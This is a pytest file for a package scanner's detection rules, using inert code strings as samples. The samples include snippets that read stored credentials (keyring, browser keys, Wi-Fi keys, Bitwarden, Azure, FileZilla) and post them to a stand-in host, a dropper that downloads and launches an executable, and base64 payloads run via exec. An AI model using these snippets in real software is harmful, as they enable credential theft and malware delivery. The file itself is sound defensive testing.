"""Rules 51: secrets read other than from a file's path are secrets.

Before, a flow check was made only when the file showed host facts, the environment or a
credential path in a literal: a stored secret (``keyring.get_password``), a browser key
unsealed with ``CryptUnprotectData``, the clipboard, Wi-Fi keys printed by ``netsh ... key=
clear`` posted away showed as network use alone. Password managers' vaults (Bitwarden,
1Password, KeePass), FTP clients' saved servers, Steam's and Minecraft's sign-ins, VS Code's
stored secrets and Azure's token files (``~/.azure`` spelled in pieces) are credential stores.
A program started with ``ShellExecuteW`` or ``WinExec`` (ctypes, pywin32) is a process; a
download streamed by ``httpx.stream``, or fetched by any client, counts for a download run.
``exec`` handed to a timer, a thread or an executor runs on what it is handed; the C API's
``PyRun_SimpleString`` and ``sys.modules["builtins"].exec`` run code too.

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from tests.support.archives import wheel
from tests.support.scan import judge

WHEEL = "demo-1.0-py3-none-any.whl"
SEND = "requests.post('https://collect.example.net/u', data={{'d': str({loot})}})\n"
TAKEN = {
    "keyring": ("import keyring", "keyring.get_password('system', 'user')"),
    "unsealed browser key": ("import win32crypt", "win32crypt.CryptUnprotectData(b'x')[1]"),
    "clipboard": ("import pyperclip", "pyperclip.paste()"),
    "wifi keys": (
        "import subprocess",
        "subprocess.check_output('netsh wlan show profile name=home key=clear', shell=True)",
    ),
    "bitwarden": (
        "import os",
        "open(os.path.join(os.getenv('APPDATA'), 'Bitwarden', 'data.json')).read()",
    ),
    "azure": (
        "import os",
        "open(os.path.join(os.path.expanduser('~'), '.azure', 'msal_token_cache.json')).read()",
    ),
    "filezilla": (
        "import os",
        "open(os.path.join(os.getenv('APPDATA'), 'FileZilla', 'recentservers.xml')).read()",
    ),
}


@pytest.mark.parametrize("case", sorted(TAKEN))
def test_a_secret_posted_away_is_credential_exfiltration(case: str) -> None:
    imports, loot = TAKEN[case]
    init = f"{imports}\nimport requests\n" + SEND.format(loot=loot)
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert "credential-exfil" in rules
    assert held


def test_an_azure_host_name_is_no_credential_store() -> None:
    init = (
        "import requests\n"
        "TOKEN_URL = 'https://login.microsoftonline.com/common/oauth2/token'\n"
        "def usage(query):\n"
        "    return requests.post('https://management.azure.com/usage', json={'q': query})\n"
    )
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert "credential-exfil" not in rules
    assert not held


def test_the_clipboard_read_for_the_user_is_no_exfiltration() -> None:
    init = "import pyperclip\ndef pasted():\n    return pyperclip.paste().strip()\n"
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert "credential-exfil" not in rules
    assert not held


_DROP = (
    "import ctypes, os, requests\n"
    "p = os.path.join(os.getenv('TEMP'), 'svc.exe')\n"
    "open(p, 'wb').write(requests.get('https://cdn.example.net/a.exe').content)\n"
)


@pytest.mark.parametrize(
    "run",
    [
        "ctypes.windll.shell32.ShellExecuteW(None, 'open', p, None, None, 0)",
        "ctypes.windll.kernel32.WinExec(p.encode(), 0)",
    ],
    ids=["ShellExecuteW", "WinExec"],
)
def test_a_download_started_through_windows_own_calls_is_a_download_run(run: str) -> None:
    rules, held = judge(wheel({"demo/__init__.py": _DROP + run + "\n"}), WHEEL)
    assert rules.get("download-run") == 10
    assert held


def test_a_download_streamed_by_httpx_then_run_is_a_download_run() -> None:
    init = (
        "import os, subprocess, httpx\n"
        "p = os.path.join(os.getenv('TEMP'), 'svc.exe')\n"
        "with httpx.stream('GET', 'https://cdn.example.net/a.exe') as r, open(p, 'wb') as f:\n"
        "    [f.write(chunk) for chunk in r.iter_bytes()]\n"
        "subprocess.Popen([p])\n"
    )
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert rules.get("download-run") == 10
    assert held


_PAYLOAD = "base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQo=')"


@pytest.mark.parametrize(
    "run",
    [
        f"import threading\nthreading.Timer(5, exec, args=({_PAYLOAD},)).start()",
        f"import asyncio\nasyncio.run(asyncio.to_thread(exec, {_PAYLOAD}))",
        f"import threading\nthreading.Thread(target=exec, args=({_PAYLOAD},)).start()",
        f"import ctypes\nctypes.pythonapi.PyRun_SimpleString({_PAYLOAD})",
        f"import sys\nsys.modules['builtins'].exec({_PAYLOAD})",
    ],
    ids=["timer", "to_thread", "thread target", "PyRun_SimpleString", "sys.modules builtins"],
)
def test_decoded_code_run_by_a_scheduler_or_the_c_api_is_decode_exec(run: str) -> None:
    rules, held = judge(wheel({"demo/__init__.py": "import base64\n" + run + "\n"}), WHEEL)
    assert rules.get("decode-exec") == 10
    assert held


def test_a_thread_started_on_a_function_of_its_own_is_no_exec() -> None:
    init = (
        "import base64, threading\n"
        "def work(blob):\n    return len(blob)\n"
        f"threading.Thread(target=work, args=({_PAYLOAD},)).start()\n"
    )
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert "decode-exec" not in rules
    assert not held
